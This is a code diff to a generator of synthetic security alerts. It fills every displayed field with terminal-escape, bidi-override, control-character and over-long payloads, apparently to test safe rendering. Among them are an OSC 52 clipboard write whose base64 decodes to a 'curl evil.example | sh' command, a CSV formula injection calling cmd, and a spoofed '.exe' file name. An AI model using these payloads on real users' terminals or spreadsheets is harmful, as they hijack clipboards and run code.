@@ -322,11 +322,12 @@ struct Generator {
     out: Vec<AlertRecord>,
 }
 
-/// Overrides for hostile alerts: their own shared fragment and command line.
+/// Overrides for hostile alerts: their own shared fragment, command line and ids.
 struct Override {
     shared: Arc<str>,
     command_line: Option<String>,
     file_name: Option<String>,
+    provider_alert_id: Option<String>,
 }
 
 impl Generator {
@@ -598,11 +599,14 @@ impl Generator {
 
         let id = self.new_id(&source.id_prefix, created);
         // MDE-style sources use the alert id as the provider id; others have their own.
-        let provider_alert_id = if source.id_prefix == "da" {
-            id.to_string()
-        } else {
-            guid(self.rng.next_u64())
-        };
+        let provider_alert_id =
+            if let Some(p) = over.as_ref().and_then(|o| o.provider_alert_id.clone()) {
+                p
+            } else if source.id_prefix == "da" {
+                id.to_string()
+            } else {
+                guid(self.rng.next_u64())
+            };
         let recipe = Recipe {
             ctx: ctx.clone(),
             kinds: &template.evidence,
@@ -674,7 +678,12 @@ impl Generator {
                 None,
                 Some("invoice_\u{202e}fdp.exe".to_owned()),
             ),
-            (long_title, "A title of 5,000 characters.".to_owned(), None, None),
+            (
+                long_title,
+                format!("A title of 5,000 characters; the description too:{}", hostile_value("", 5)),
+                None,
+                None,
+            ),
             (
                 "Benign looking title\rMALICIOUS overwrite\u{0}\u{9b}31mC1 CSI\u{7f}".to_owned(),
                 "Carriage return, NUL, C1 CSI and DEL in one title.\u{8}\u{8}\u{8}".to_owned(),
@@ -688,29 +697,50 @@ impl Generator {
                 Some("-2+3+cmd|' /C calc'!A0.csv".to_owned()),
             ),
         ];
-        // Hostile alerts borrow the first endpoint detection's evidence and metadata.
-        let det = self.det;
-        let Some((src, t)) = det
+        // Hostile alerts borrow the first endpoint detection's evidence kinds; every text
+        // member is their own.
+        if self
+            .det
             .sources
             .first()
-            .and_then(|s| Some((s, s.templates.first()?)))
-        else {
+            .is_none_or(|s| s.templates.is_empty())
+        {
             return;
-        };
+        }
         for (i, (title, description, command_line, file_name)) in cases.into_iter().enumerate() {
-            let ctx = self.incident_context();
+            // Every other displayed field carries hostile text too; rotating the payloads
+            // over the six alerts gives each field each kind of attack once.
+            let evil = |field: &str, k: usize| hostile_value(field, i + k);
+            let ctx = match Arc::try_unwrap(self.incident_context()) {
+                Ok(mut c) => {
+                    c.incident_id = evil("incident", 1);
+                    c.tenant = Arc::from(evil("tenant", 2));
+                    c.user.display = evil("user display", 3);
+                    c.user.account = evil("account", 4);
+                    c.user.upn = evil("upn@contoso.example", 5);
+                    c.host.name = evil("host", 0);
+                    c.host.fqdn = evil("host.contoso.example", 1);
+                    c.url = evil("https://evil.example/", 2);
+                    c.subject = evil("subject", 3);
+                    Arc::new(c)
+                }
+                // Never shared this early; if it were, its alert keeps plain evidence.
+                Err(shared) => shared,
+            };
+            let techniques = [evil("T1059", 4), "T1566.001".to_owned()];
+            let category = evil("Execution", 5);
             let shared = members(|o| {
                 o.str("title", &title)
                     .str("description", &description)
-                    .str("recommendedActions", &src.recommended_actions)
-                    .str("category", &t.category)
-                    .strs("categories", std::slice::from_ref(&t.category))
-                    .strs("mitreTechniques", &t.techniques)
-                    .str("productName", &src.product_name)
-                    .str("detectorId", &guid(hash_str(self.seed, "hostile")))
-                    .null("actorDisplayName")
+                    .str("recommendedActions", &evil("recommendedActions", 0))
+                    .str("category", &category)
+                    .strs("categories", std::slice::from_ref(&category))
+                    .strs("mitreTechniques", &techniques)
+                    .str("productName", &evil("productName", 1))
+                    .str("detectorId", &evil("detectorId", 2))
+                    .str("actorDisplayName", &evil("actor", 3))
                     .str("threatDisplayName", &title)
-                    .null("threatFamilyName");
+                    .str("threatFamilyName", &evil("family", 4));
             });
             // Recent, so they sit on the first page.
             let created = truncate_ticks(self.now - Duration::minutes(5 + i as i64));
@@ -721,10 +751,38 @@ impl Generator {
                 Some(Override {
                     shared: Arc::from(shared),
                     command_line,
-                    file_name,
+                    file_name: file_name.or_else(|| Some(evil("file.exe", 5))),
+                    provider_alert_id: Some(evil("provider", 0)),
                 }),
             );
+            if let Some(record) = self.out.last_mut() {
+                // Unique (the index keeps the alert's position) and hostile in every way.
+                record.id = format!("hostile-{i}-{}", evil("id", 1)).into();
+                record.assigned_to = Some(evil("assignee@contoso.example", 2).into());
+                record.comments = vec![Comment {
+                    text: evil("comment", 3).into(),
+                    author: evil("author", 4).into(),
+                    created,
+                }];
+            }
         }
+    }
+}
+
+/// A hostile value naming `field`: the `n % 6`th of terminal attacks (CSI screen control,
+/// OSC 52 clipboard write and title change, bidi overrides and isolates, zero-width
+/// characters, NUL/C1/DEL/CR/TAB/BS, 5,000 characters).
+pub fn hostile_value(field: &str, n: usize) -> String {
+    const ESC: char = '\u{1b}';
+    match n % 6 {
+        0 => format!("{ESC}[2J{ESC}[H{field}{ESC}[31m red{ESC}[0m"),
+        1 => format!(
+            "{field} {ESC}]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlfHNo\u{7}{ESC}]0;pwned{ESC}\\"
+        ),
+        2 => format!("{field} \u{202e}exe.txt\u{202c} \u{2067}isolate\u{2069}\u{61c}"),
+        3 => format!("{field}\u{200b}zero\u{200d}width\u{feff}\u{2060}"),
+        4 => format!("{field}\0nul\u{9b}31m C1\u{7f}\r\nCRLF\tTAB\u{8}\u{85}"),
+        _ => format!("{field} {}", "long ".repeat(1000)),
     }
 }
 
